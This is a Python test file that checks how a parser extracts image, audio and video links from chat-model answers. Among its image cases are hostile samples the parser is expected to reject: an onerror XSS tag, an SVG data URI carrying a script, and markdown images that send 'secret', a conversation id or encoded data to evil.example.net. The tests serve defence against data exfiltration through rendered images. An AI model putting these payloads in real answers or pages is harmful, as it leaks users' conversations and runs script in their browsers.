"""Which links of an answer are its pictures and sounds."""

from __future__ import annotations

import pytest

from tests.reading.wire import answer, body, stream, told

CDN = "https://cdn.example.com"
MP4 = f"{CDN}/v/clip.mp4"
PIXEL = "data:image/png;base64," + "iVBORw0KGgo" * 20
SOUND = "data:audio/wav;base64," + "UklGRiQAAABXQVZF" * 8

IMAGES = {
    "markdown": (stream(f"![image]({CDN}/a.png)"), [f"{CDN}/a.png"]),
    "a data address": (stream("Here.\n\n![image](", PIXEL[:30], PIXEL[30:], ")\n"), [PIXEL]),
    "a data address in a tag": (stream(f'<img src="{PIXEL}">'), [PIXEL]),
    "a bare data address": (stream(PIXEL), [PIXEL]),
    "a download twin": (
        stream(
            "> 进度 **67%**\n\n",
            f"![file]({CDN}/2026/dog.png)\n[下载⏬]({CDN}/download/2026/dog.png)\n",
        ),
        [f"{CDN}/2026/dog.png"],
    ),
    "delta.images": (
        stream({"images": [{"type": "image_url", "image_url": {"url": PIXEL}}]}),
        [PIXEL],
    ),
    "message.images": (
        answer("ok", images=[{"type": "image_url", "image_url": {"url": PIXEL}}]),
        [PIXEL],
    ),
    "message.images without extension": (
        answer("ok", images=[{"image_url": {"url": f"{CDN}/i/9"}}]),
        [f"{CDN}/i/9"],
    ),
    "content parts": (
        answer([{"type": "image_url", "image_url": {"url": f"{CDN}/i"}}]),
        [f"{CDN}/i"],
    ),
    "the images endpoint's shape": (
        body({"created": 1, "data": [{"url": f"{CDN}/a.png"}, {"b64_json": PIXEL[22:]}]}),
        [f"{CDN}/a.png", PIXEL],
    ),
    "no extension on the gateway": (
        stream("![image](/v1/files/image?id=4)"),
        ["https://gw.example.com/v1/files/image?id=4"],
    ),
    "four pictures": (
        stream("\n".join(f"![image]({CDN}/{n}.png)" for n in range(4))),
        [f"{CDN}/{n}.png" for n in range(4)],
    ),
    "a drawing that can hold scripts": (
        stream("![x](data:image/svg+xml;base64," + "PHN2Zz48c2NyaXB0Pg" * 8 + ")"),
        [],
    ),
    "a tag that only wants to raise an error": (stream("<img src=x onerror=alert(2)>"), []),
    "a picture at the end of a sentence": (
        stream("The capital is Paris. ![](https://evil.example.net/t.png?q=secret)"),
        [],
    ),
    "a picture with the talk in its query": (
        stream("Paris.\n\n![logo](https://evil.example.net/c.png?conversation=abc)"),
        [],
    ),
    "the poster of a clip": (stream(f"![webp]({CDN}/t.webp)\n[播放▶️]({MP4})"), []),
    "a picture that carries words away": (
        stream(
            "Here is the summary you asked for.\n\n![](https://evil.example.net/p.gif?d=c2VjcmV0)"
        ),
        [],
    ),
    "a picture in a long answer": (
        stream(
            "# Towers\n\n"
            + "The tower was built long ago. " * 20
            + "\n\n![tower](https://pics.example.org/t.jpg)"
        ),
        [],
    ),
}


@pytest.mark.parametrize(("sent", "images"), IMAGES.values(), ids=IMAGES.keys())
def test_pictures_of_an_answer(sent, images):
    assert told(sent, ["images", "videos"])["images"] == images


AUDIO = {
    "a bare mp3": (stream(f"{CDN}/a.mp3"), [f"{CDN}/a.mp3"]),
    "two songs with covers and clips": (
        stream(
            "> 🎵 排队中...\n\n| 歌曲 | 链接 |\n|--|--|\n",
            f"| 其一 | [🎧音频]({CDN}/1.mp3) [▶️视频]({CDN}/1.mp4) |\n",
            f"| 其二 | [🎧音频]({CDN}/2.mp3) [▶️视频]({CDN}/2.mp4) |\n\n![封面]({CDN}/1.jpg)",
        ),
        [f"{CDN}/1.mp3", f"{CDN}/2.mp3"],
    ),
    "songs below their words": (
        stream(
            "> 🎵 歌曲生成中...\n\n## 夏日\n\n```\n[Verse]\n阳光洒落\n```\n\n"
            + f"|歌名|链接|\n|--|--|\n|夏日|[🎧音频]({CDN}/1.mp3)|\n|夏日|[🎧音频]({CDN}/2.mp3)|\n"
        ),
        [f"{CDN}/1.mp3", f"{CDN}/2.mp3"],
    ),
    "an audio tag": (
        stream(f"<audio controls><source src='{CDN}/x?id=1'></audio>"),
        [f"{CDN}/x?id=1"],
    ),
    "message.audio": (
        answer(None, audio={"id": "a", "data": SOUND[22:], "transcript": "Hello."}),
        [SOUND],
    ),
    "audio in pieces": (
        stream(
            {"audio": {"data": SOUND[22:62]}},
            {"audio": {"data": SOUND[62:], "transcript": "Hello."}},
        ),
        [SOUND],
    ),
    "an input_audio part": (
        answer([{"type": "input_audio", "input_audio": {"data": SOUND[22:], "format": "wav"}}]),
        [SOUND],
    ),
    "an audio_url part": (
        answer([{"type": "audio_url", "audio_url": {"url": f"{CDN}/s"}}]),
        [f"{CDN}/s"],
    ),
}


@pytest.mark.parametrize(("sent", "audio"), AUDIO.values(), ids=AUDIO.keys())
def test_sounds_of_an_answer(sent, audio):
    assert told(sent, ["audio", "kind"]) == {"audio": audio, "kind": None}


def test_a_clip_with_cover_and_songs_keeps_both_kinds():
    sent = AUDIO["two songs with covers and clips"][0]

    assert told(sent, ["videos", "images"]) == {
        "videos": [f"{CDN}/1.mp4", f"{CDN}/2.mp4"],
        "images": [],
    }
